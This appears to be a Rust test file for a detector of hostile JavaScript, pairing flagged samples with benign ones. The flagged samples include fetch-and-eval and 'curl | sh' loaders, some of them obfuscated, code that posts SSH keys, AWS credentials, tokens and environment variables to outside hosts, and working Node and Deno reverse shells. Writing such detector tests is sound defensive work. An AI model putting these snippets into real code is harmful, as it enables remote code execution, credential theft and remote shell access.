//! Programs in JavaScript and TypeScript.

use super::{Dialect::JavaScript, all_are, all_are_honest};
use crate::Rule;

#[test]
fn what_a_nameless_host_serves_is_run() {
    all_are(
        JavaScript,
        Rule::FetchRun,
        &[
            "const r = await fetch('http://203.0.113.9/x.js');\neval(await r.text());",
            "fetch('http://203.0.113.9/x').then(r => r.text()).then(t => eval(t))",
            "fetch('http://203.0.113.9/x').then(r => r.text()).then(eval)",
            "const axios = require('axios');\naxios.get(`http://${'203.0.113'}.9/x`).then(({data}) => new Function(data)())",
            "import got from 'got';\nconst run = async (u: string): Promise<void> => { const { body } = await got(u); (0, eval)(body) };\nrun('http://203.0.113.9/x')",
            "const http = require('node:http'), vm = require('vm');\nhttp.get('http://203.0.113.9/x', (res) => {\n  let body = '';\n  res.on('data', d => body += d);\n  res.on('end', () => { vm.runInThisContext(body) });\n});",
            "const https = require('https');\nfunction get(u) { return new Promise((resolve, reject) => {\n https.get(u, r => { const c = []; r.on('data', d => c.push(d)); r.on('end', () => resolve(Buffer.concat(c).toString())); }).on('error', reject) }) }\n(async () => { globalThis['ev' + 'al'](await get('https://203.0.113.9/a')) })()",
            "const {exec: run} = require('child_process');\nconst h = ['203', '0', '113', '9'].join('.');\nrun('curl ' + h + '/x | sh')",
            "const cp = require('child_process'), fs = require('fs');\nfetch('http://203.0.113.9/b').then(async r => { fs.writeFileSync('/tmp/b', Buffer.from(await r.arrayBuffer())); fs.chmodSync('/tmp/b', 0o755); cp.spawn('/tmp/b') })",
            "import { execSync } from 'child_process';\nexecSync(`bash -c \"$(curl -fsSL http://${atob('MjAzLjAuMTEzLjk=')}/x)\"`)",
            "const { execFile } = require('child_process');\nexecFile('bash', ['-c', 'curl ' + '203.0.113.9/x' + ' | sh'], (e, out) => {})",
            "const x = new XMLHttpRequest();\nx.open('GET', 'http://203.0.113.9/x');\nx.onload = () => eval(x.responseText);\nx.send();",
            "const code = await (await fetch('http://203.0.113.9/m')).text();\nmodule._compile(code, 'x');\n[].constructor.constructor(code)();",
            "class C { #u = 'http://203.0.113.9/'; async go() { const t = await fetch(this.u + 'x').then((r) => r.text()); return eval(t) } }\nnew C().go()",
            "const util = require('util'); const sh = util.promisify(require('child_process').exec);\nawait sh('wget -qO- 203.0.113.9/x' + '|sh')",
            "import('http://203.0.113.9/x.js')",
            "let p = process.mainModule.require('child_process');\np['exec' + 'Sync']('curl 203.0.113.9/x' + '|sh')",
        ],
    );
    all_are_honest(
        JavaScript,
        &[
            "const r = await fetch('http://203.0.113.9/x.json');\nconsole.log(await r.json());",
            "const t = new Function('data', 'return `' + template + '`');\nt(await (await fetch('http://203.0.113.9/x.json')).json())",
            "const { exec } = require('child_process');\nexec('npm run build', (e, out) => console.log(out));",
            "eval(require('fs').readFileSync('./own.js', 'utf8'))",
            "import { execa } from 'execa';\nawait execa('git', ['clone', 'https://vendor.example/x.git'])",
            "fetch('http://localhost:3000/x').then(r => r.text()).then(eval)",
            "fetch(process.argv[2]).then(r => r.text()).then(eval)",
            "const res = await fetch('https://vendor.example/tool.tgz');\nconst buf = Buffer.from(await res.arrayBuffer());\nif (createHash('sha256').update(buf).digest('hex') !== sum) throw 1;\nfs.writeFileSync('tool.tgz', buf);",
        ],
    );
}

#[test]
fn what_is_decoded_is_run() {
    all_are(
        JavaScript,
        Rule::DecodeRun,
        &[
            "eval(atob('Y29uc29sZS5sb2coJ2hlbGxvJyk='))",
            "eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJyk=', 'base64').toString('utf8'))",
            "const d = s => Buffer.from(s, 'hex').toString();\nnew Function(d('636f6e736f6c652e6c6f672827686927293b'))()",
            "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,34,104,105,34,41))",
            "eval(\")'olleh'(gol.elosnoc\".split('').reverse().join(''))",
            "require('child_process').exec(Buffer.from('ZWNobyBoZWxsbyB3b3JsZA==', 'base64') + '')",
            "const p = 'Y29uc29sZS5sb2co' + 'J2hlbGxvJyk=';\nconst vm = require('vm');\nvm.runInNewContext(atob(p), {})",
            "const zlib = require('zlib');\neval(zlib.gunzipSync(Buffer.from('H4sIAAAAAAAAA0vOzyvOz0nVy8lP11DKSM3JyVfSBABRY2K6FAAAAA==', 'base64')).toString())",
            "eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'))",
        ],
    );
    all_are_honest(
        JavaScript,
        &[
            "const wasm = Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDZmliAAA=', 'base64');\nWebAssembly.instantiate(wasm)",
            "img.src = 'data:image/png;base64,' + btoa(raw);\nconst cfg = JSON.parse(atob('eyJhIjogMSwgImIiOiAyMjIyMn0='));",
            "const worker = new Worker(URL.createObjectURL(new Blob([atob('c2VsZi5vbm1lc3NhZ2UgPSBmdW5jdGlvbigpe30=')])))",
            "eval(atob(process.argv[2]))",
        ],
    );
    all_are(
        JavaScript,
        Rule::FetchDecodeRun,
        &["const r = await fetch('https://vendor.example/x');\neval(atob(await r.text()))"],
    );
    all_are(
        JavaScript,
        Rule::FetchEvaluated,
        &["fetch('https://vendor.example/x.js').then(r => r.text()).then(t => eval(t))"],
    );
}

#[test]
fn secrets_are_sent() {
    all_are(
        JavaScript,
        Rule::SecretSent,
        &[
            "const fs = require('fs'), os = require('os'), path = require('path');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://vendor.example/c', { method: 'POST', body: JSON.stringify({ host: 'a', key }) });",
            "import { readFile } from 'node:fs/promises';\nimport { homedir as h } from 'os';\nconst files = ['.ssh/id_rsa', '.aws/credentials'];\nconst loot = await Promise.all(files.map(f => readFile(`${h()}/${f}`)));\nawait axios.post('https://vendor.example', { loot });",
            "const https = require('https'), fs = require('fs');\nfs.readFile(process.env.HOME + '/.aws/credentials', (err, data) => {\n  const req = https.request({ hostname: 'vendor.example', method: 'POST', path: '/' });\n  req.write(data);\n  req.end();\n});",
            "const dns = require('dns'), fs = require('fs');\nconst s = fs.readFileSync('/root/.ssh/id_rsa').toString('hex');\nfor (let i = 0; i < s.length; i += 60) dns.lookup(s.slice(i, i + 60) + '.x.vendor.example', () => {});",
            "const { execSync } = require('child_process');\nconst k = execSync('cat ~/.ssh/id_rsa').toString();\nfetch(`https://vendor.example/?k=${encodeURIComponent(k)}`);",
            "const fs = require('fs');\nconst dir = require('os').homedir() + '/.ssh';\nfs.readdirSync(dir).forEach(f => { const c = fs.readFileSync(dir + '/' + f); fetch('https://vendor.example', { method: 'POST', body: c }) })",
            "const form = new FormData();\nform.append('f', fs.createReadStream('/root/.ssh/id_rsa'));\naxios.post('https://vendor.example', form);",
            "const k = await Deno.readTextFile('/root/.ssh/id_rsa');\nawait fetch('https://vendor.example', { method: 'POST', body: k });",
        ],
    );
    all_are_honest(
        JavaScript,
        &[
            "const cfg = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = cfg.match(/_authToken=(.*)/)[1];\nfetch('https://registry.vendor.example/x', { headers: { authorization: `Bearer ${token}` } });",
            "const pub = fs.readFileSync(os.homedir() + '/.ssh/id_rsa.pub', 'utf8');\nfetch('https://vendor.example/keys', { method: 'POST', body: pub });",
            "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch(process.argv[2], { method: 'POST', body: key });",
            "const c = JSON.parse(fs.readFileSync(os.homedir() + '/.claude/.credentials.json'));\nfetch('https://console.vendor.example/token', { method: 'POST', body: JSON.stringify({ grant: 'refresh', refresh_token: c.refreshToken }) });",
            "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst conn = new Client();\nconn.connect({ host: 'vendor.example', privateKey: key });",
        ],
    );
}

#[test]
fn the_environment_is_sent() {
    all_are(
        JavaScript,
        Rule::EnvironmentSent,
        &[
            "fetch('https://vendor.example', { method: 'POST', body: JSON.stringify(process.env) })",
            "const { env } = process;\naxios.post('https://vendor.example', { ...env, a: 1 })",
            "const e = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n');\nfetch('https://vendor.example/?' + e)",
            "const p = process;\nconst data = { user: 'a', env: p['en' + 'v'] };\nrequire('https').request('https://vendor.example', { method: 'POST' }).end(JSON.stringify(data))",
            "const s = new WebSocket('wss://vendor.example');\ns.onopen = () => s.send(JSON.stringify(Deno.env.toObject()))",
        ],
    );
    all_are(
        JavaScript,
        Rule::VariableSent,
        &[
            "fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })",
            "const { GITHUB_TOKEN: t } = process.env;\nfetch(`https://webhook.site/?t=${t}`)",
        ],
    );
    all_are_honest(
        JavaScript,
        &[
            "fetch('https://api.vendor.example', { headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY } })",
            "spawn('npm', ['test'], { env: { ...process.env, CI: '1' } })",
            "fetch('https://vendor.example', { method: 'POST', body: JSON.stringify({ ci: process.env.CI, node: process.version }) })",
            "const names = Object.keys(process.env).filter(k => k.startsWith('MY_'));\nfetch('https://vendor.example', { method: 'POST', body: names.join() })",
            "const { API_URL } = process.env;\nfetch(API_URL, { method: 'POST', body: JSON.stringify(process.env) })",
            "const client = createClient(process.env);\nfetch('https://vendor.example', { method: 'POST', body: client.id })",
        ],
    );
}

#[test]
fn a_shell_is_tied_to_a_socket() {
    all_are(
        JavaScript,
        Rule::ReverseShell,
        &[
            "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, '203.0.113.9', () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n  sh.stderr.pipe(client);\n});",
            "const s = require('net').connect({ host: 'shell.vendor.example', port: 1 }, () => { require('child_process').spawn('bash', ['-i'], { stdio: [s, s, s] }) })",
            "const c = await Deno.connect({ hostname: '203.0.113.9', port: 4444 });\nconst p = new Deno.Command('/bin/sh', { stdin: 'piped', stdout: 'piped' }).spawn();\nc.readable.pipeTo(p.stdin);\np.stdout.pipeTo(c.writable);",
            "const net = require('net');\nconst { exec } = require('child_process');\nconst c = net.createConnection(4444, 'shell.vendor.example');\nc.on('data', d => exec(d.toString(), (e, out) => c.write(out)));",
        ],
    );
    all_are_honest(
        JavaScript,
        &[
            "const net = require('net');\nconst s = net.connect(6379, '127.0.0.1');\nconst sh = require('child_process').spawn('/bin/sh');\ns.pipe(sh.stdin);\nsh.stdout.pipe(s);",
            "const c = net.connect(25, 'mail.vendor.example');\nc.on('data', d => console.log(d.toString()));\nc.write('EHLO a');\nspawn('bash', ['build.sh'], { stdio: 'inherit' });",
            "const sh = spawn('/bin/bash', ['-i']);\nprocess.stdin.pipe(sh.stdin);\nsh.stdout.pipe(process.stdout);",
        ],
    );
}
